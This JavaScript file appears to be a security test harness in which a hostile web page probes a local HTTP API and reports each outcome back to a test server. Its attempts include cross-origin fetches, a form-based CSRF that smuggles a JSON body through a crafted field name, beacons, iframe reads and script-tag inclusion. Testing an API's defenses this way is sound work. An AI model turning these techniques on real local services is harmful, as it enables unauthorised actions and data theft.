// What a hostile page tries against the local API. Reports each attempt: what was read, and with what status.

const until = async (ask) => {
  for (;;) {
    try {
      return await ask();
    } catch {
      await new Promise((again) => setTimeout(again, 50));
    }
  }
};

// One request; what the page may read of the answer.
const attempt = (what, ask) => async (base) => {
  try {
    const answer = await ask(base);
    return { what, base, status: answer.status, type: answer.type, read: await answer.text() };
  } catch (error) {
    return { what, base, failed: String(error) };
  }
};

// What came of an attempt that is no request of fetch.
const told = (type, read) => ({ status: 0, type, text: async () => read });

// A frame or window of the API's own, which the page then tries to look into.
const framed = (make) => async (base) => {
  const frame = document.createElement('iframe');
  frame.name = `frame${Math.random()}`;
  document.body.append(frame);
  const loaded = new Promise((done) => { frame.onload = done; setTimeout(done, 1000); });
  make(frame, base);
  await loaded;
  let read = '';
  try {
    read = frame.contentDocument.documentElement.outerHTML;
  } catch { /* of another origin */ }
  return told('frame', read);
};

// A form needs no permission to be sent anywhere.
const form = (enctype, wish) => framed((frame, base) => {
  const form = document.createElement('form');
  Object.assign(form, { action: `${base}/v1/share`, method: 'POST', enctype, target: frame.name });
  const field = document.createElement('input');
  Object.assign(field, { name: `${JSON.stringify(wish).slice(0, -1)},"x":"`, value: '"}' });
  form.append(field);
  document.body.append(form);
  form.submit();
});

const tagged = (name) => async (base) => {
  const tag = document.createElement(name);
  const seen = new Promise((done) => { tag.onload = tag.onerror = done; setTimeout(done, 1000); });
  tag.src = `${base}/v1/status`;
  document.body.append(tag);
  await seen;
  return told(name, String(window.stolen ?? ''));
};

const attacks = ({ token, wish }) => {
  const body = JSON.stringify(wish);
  const shown = { Authorization: `Bearer ${token}` };
  const json = { 'Content-Type': 'application/json' };
  const get = (path, more) => attempt(`GET ${path}`, (base) => fetch(base + path, more));
  const post = (path, more) => attempt(`POST ${path}`, (base) => fetch(base + path, { method: 'POST', body, ...more }));
  return [
    get('/v1/status'),
    get('/v1/shares', { mode: 'no-cors' }),
    get('/v1/peers', { credentials: 'include' }),
    get('/metrics', { headers: shown }),
    get('/v1/messages', { headers: shown }),
    post('/v1/share'),
    post('/v1/share', { mode: 'no-cors' }),
    post('/v1/share', { headers: json }),
    post('/v1/share', { headers: { ...shown, ...json } }),
    post('/v1/stop', { headers: { ...shown, ...json } }),
    post('/v1/stop', { mode: 'no-cors' }),
    attempt('PUT', (base) => fetch(`${base}/v1/share`, { method: 'PUT', body, headers: shown })),
    attempt('beacon', async (base) => told('beacon', String(navigator.sendBeacon(`${base}/v1/share`, body)))),
    attempt('form', form('text/plain', wish)),
    attempt('form', form('application/x-www-form-urlencoded', wish)),
    attempt('frame', framed((frame, base) => { frame.src = `${base}/v1/status`; })),
    attempt('script', tagged('script')),
  ];
};

addEventListener('load', async () => {
  await fetch('/loaded');
  const order = await until(async () => (await fetch(`${ORDERS}/orders`)).json());
  // The name leads to the API as soon as that is there.
  await until(() => fetch('/v1/status'));
  const reports = [];
  for (const base of order.bases) {
    for (const attack of attacks(order)) reports.push(await attack(base));
  }
  await fetch(`${ORDERS}/report`, { method: 'POST', mode: 'no-cors', body: JSON.stringify(reports) });
});
